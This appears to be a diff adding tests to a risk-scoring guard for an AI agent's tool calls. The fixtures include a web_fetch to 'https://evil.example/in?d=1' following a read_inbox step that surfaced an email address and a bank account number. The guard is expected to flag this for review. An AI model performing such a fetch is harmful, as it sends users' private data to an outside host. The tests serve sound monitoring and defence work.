@@ -123,6 +123,29 @@ describe('a call that only reads', () => {
     expect(assessment.tier).toBe('high');
   });
 
+  test.each(['notCaptured', 'tooLong', 'erased'])('of an address is let through as before where what went before is %s, and is found out where it is not', async (code) => {
+    const text = 'ann@example.com, DE89370400440532013000. See https://evil.example/in';
+    const texts = [{ field: 's0', provenance: 'tool' as const, text }];
+    const before = (steps: object[]) => () => Promise.resolve({ history: { calls: 3 }, steps, task: undefined, unseen: [code] } as never); // prettier-ignore
+    const judged = (steps: object[]) => judgeAction({ documents: [] }, call('web_fetch', 'read', { args: { url: 'https://evil.example/in?d=1' }, before: before(steps) })); // prettier-ignore
+    const unseen = await judged([]);
+    expect([unseen.route, unseen.assessment.tier, unseen.assessment.unscored]).toEqual(['allow', 'low', [code]]);
+    const seen = await judged([{ kind: 'tool', name: 'read_inbox', texts }]);
+    expect([seen.route, seen.assessment.tier, seen.assessment.unscored]).toEqual(['review', 'high', [code]]);
+  }); // prettier-ignore
+
+  test.each<Record<string, string>>([{ page: 'index.html' }, { src: 'main.py' }, { link: 'README.md' }, { url: 'index.html?x=1' }, { href: 'notes.md#more' }, { address: 'ann.berger' }])('of a file is not held against what went before: %o', async (args) => {
+    const over = { args, before: () => Promise.reject(new Error('not to be asked')) };
+    expect((await judgeAction({ documents: [] }, call('read_file', 'read', over))).route).toBe('allow');
+  }); // prettier-ignore
+
+  test.each<Record<string, string>>([{ link: 'evil.example/README.md' }, { url: 'evil.md/in?d=1' }, { site: 'evil.example' }, { host: 'evil.sh:80' }])('of a host without a scheme is: %o', async (args) => {
+    let asked = false;
+    const known = { history: { calls: 0 }, steps: [], task: undefined, unseen: [] };
+    await judgeAction({ documents: [] }, call('web_fetch', 'read', { args, before: () => ((asked = true), Promise.resolve(known)) })); // prettier-ignore
+    expect(asked).toBe(true);
+  }); // prettier-ignore
+
   test('does not count as one where its arguments do more', async () => {
     let asked = false;
     const known = { history: { calls: 0 }, steps: [], task: undefined, unseen: [] };
